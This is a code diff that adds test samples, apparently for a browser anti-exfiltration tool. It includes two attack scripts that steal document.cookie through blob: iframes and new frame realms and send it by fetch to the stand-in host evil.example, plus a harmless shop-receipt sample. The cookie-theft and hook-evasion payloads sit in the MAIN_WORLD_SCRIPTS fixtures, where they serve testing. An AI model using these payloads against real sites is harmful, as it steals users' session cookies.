@@ -1642,6 +1642,45 @@ export const MAIN_WORLD_SCRIPTS = {
   loaded();
 })();`,
 
+  /**
+   * A frame the helper sends from one blob: page it made to another whose own script sends the cookie: the second
+   * document is a new realm (the first took over the frame's first window) that only a handover there hooks in time.
+   */
+  'blob-frame-next-page': `(() => {
+  const page = (body) => URL.createObjectURL(new Blob(['<!doctype html><meta charset="utf-8">' + body], { type: 'text/html' }));
+  const frame = document.createElement('iframe');
+  frame.style.display = 'none';
+  const first = page('<p>first</p>');
+  frame.src = first;
+  let sent = false;
+  frame.addEventListener('load', () => {
+    if (sent || frame.contentDocument.URL !== first) return;
+    sent = true;
+    frame.src = page('<scr' + 'ipt>fetch("https://evil.example/blob-frame-next-page?c=" + encodeURIComponent(parent.document.cookie))</scr' + 'ipt>');
+  });
+  document.body.appendChild(frame);
+})();`,
+
+  /**
+   * The shop's receipt in a blob: frame (BENIGN['blob-receipt']), its second page's realm polled for by window[0]
+   * before that page loads (its logo is slow): a same-origin document no handover ran in, its fetch taken.
+   */
+  'blob-realm-polled': `(() => {
+  let old = null;
+  const poll = () => {
+    const w = window[0];
+    let ready = false;
+    try {
+      const blob = !!w && w.location.protocol === 'blob:';
+      if (blob && old === null) old = w.Function; // the receipt's first page
+      ready = blob && w.Function !== old;
+    } catch {}
+    if (!ready) return void setTimeout(poll, 5);
+    w.fetch('https://evil.example/blob-realm-polled?c=' + encodeURIComponent(document.cookie));
+  };
+  poll();
+})();`,
+
   /** A srcdoc given to a sandboxed frame (allow-scripts allow-same-origin) already in the page. */
   'srcdoc-given-sandboxed': `(() => {
   const frame = document.createElement('iframe');
@@ -2395,6 +2434,22 @@ export const BENIGN = {
   copy.innerHTML = '<embed type="text/html" src="data:text/html;charset=utf-8,' + encodeURIComponent(receipt) + '">';
   document.body.append(blob, data, object, copy);
   window.__receipts = true;
+})();`,
+  /** The shop's receipt in a blob: frame, its summary first and, a second later, its full page with a logo (slow to come). */
+  'blob-receipt': `(() => {
+  const page = (body) => URL.createObjectURL(new Blob(['<!doctype html><meta charset="utf-8">' + body], { type: 'text/html' }));
+  const frame = document.createElement('iframe');
+  const first = page('<h1>Чек</h1>');
+  frame.src = first;
+  frame.addEventListener('load', () => {
+    if (window.__blobReceipt || frame.contentDocument.URL !== first) return;
+    window.__blobReceipt = true;
+    // The full page a second later (the payment confirmed).
+    setTimeout(() => {
+      frame.src = page('<h1>Чек</h1><p>Ілбіс, 1 дана</p><img alt="" src="/kz/product/snow-leopard-silver?parse-pause=2000">');
+    }, 1000);
+  });
+  document.body.append(frame);
 })();`,
   /** The captcha provider's proof of work, in a blob: worker (served from the provider's host). */
   'captcha-pow': `(() => {
